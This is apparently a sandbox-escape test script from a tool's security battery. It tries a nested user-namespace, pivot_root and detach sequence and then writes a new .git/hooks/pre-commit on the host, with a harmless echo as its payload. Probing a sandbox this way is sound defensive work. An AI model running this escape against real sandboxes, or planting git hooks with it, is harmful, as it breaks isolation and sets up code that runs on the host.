#!/usr/bin/env python3
# id: F22
# tries: the nested-user-namespace detach escape (sandbox.md 6.3): hold an O_PATH fd on .git, unshare a user and mount namespace, make / private, pivot_root into a tmpfs, detach the old root, then rename the now unmounted 'hooks' dentry aside and write a fresh hooks/pre-commit
# expect: unshare fails with EPERM (seccomp) or ENOSPC (max_user_namespaces 0); the host's hooks are unchanged
# neighbour: git add and git commit work
# needs: git
# sandbox-args: -
#
# Runs inside `corral sandbox` (tests/sandbox/battery.py); by hand:
#   corral sandbox -- /usr/bin/python3 F22_nested_userns_detach.py [INFO.json]
import errno
import os

from attacklib import escaped, git_steps, judge_errno, main, sys_call

SYS_unshare, SYS_mount, SYS_umount2, SYS_pivot_root = 272, 165, 166, 155
CLONE_NEWNS, CLONE_NEWUSER = 0x20000, 0x10000000
MS_REC, MS_PRIVATE, MNT_DETACH = 16384, 1 << 18, 2


def attack():
    uid, gid = os.getuid(), os.getgid()
    dotgit = os.open(".git", os.O_PATH | os.O_DIRECTORY)
    try:
        sys_call(SYS_unshare, CLONE_NEWUSER | CLONE_NEWNS)
    except OSError as e:
        judge_errno("unshare(NEWUSER|NEWNS)", e, errno.EPERM, errno.ENOSPC, errno.EUSERS)
        return
    escaped.append("unshare(NEWUSER|NEWNS) succeeded")
    done = []

    def step(name, fn):
        fn()
        done.append(name)

    def write_proc(name, text):
        with open("/proc/self/" + name, "w") as f:
            f.write(text)

    def write_hook():
        fd = os.open("hooks/pre-commit", os.O_CREAT | os.O_WRONLY, 0o755, dir_fd=dotgit)
        os.write(fd, b"#!/bin/sh\necho pwned-by-the-sandbox\n")
        os.close(fd)
    try:
        step("setgroups deny", lambda: write_proc("setgroups", "deny"))
        step("uid_map", lambda: write_proc("uid_map", "0 %d 1" % uid))
        step("gid_map", lambda: write_proc("gid_map", "0 %d 1" % gid))
        step("/ private", lambda: sys_call(SYS_mount, None, b"/", None, MS_REC | MS_PRIVATE, None))
        step("mkdir /tmp/nr", lambda: os.makedirs("/tmp/nr", exist_ok=True))
        step("tmpfs", lambda: sys_call(SYS_mount, b"tmpfs", b"/tmp/nr", b"tmpfs", 0, None))
        step("chdir", lambda: os.chdir("/tmp/nr"))
        step("mkdir old", lambda: os.mkdir("old"))
        step("pivot_root", lambda: sys_call(SYS_pivot_root, b".", b"old"))
        step("detach old root", lambda: sys_call(SYS_umount2, b"/old", MNT_DETACH))
        step("rename hooks aside", lambda: os.rename("hooks", "hooks.aside", src_dir_fd=dotgit, dst_dir_fd=dotgit))
        step("mkdir hooks", lambda: os.mkdir("hooks", dir_fd=dotgit))
        step("wrote .git/hooks/pre-commit on the host", write_hook)
    except OSError as e:
        done.append("then stopped: %s" % e)
    escaped.append(", ".join(done))


def neighbour():
    if escaped:  # the namespaces changed: the neighbour cannot be judged here
        return "not judged: the attack changed this process's namespaces"
    open("new.txt", "w").write("new\n")
    return git_steps(("add", "new.txt"), ("commit", "-q", "-m", "from the sandbox"))


if __name__ == "__main__":
    main(attack, neighbour)
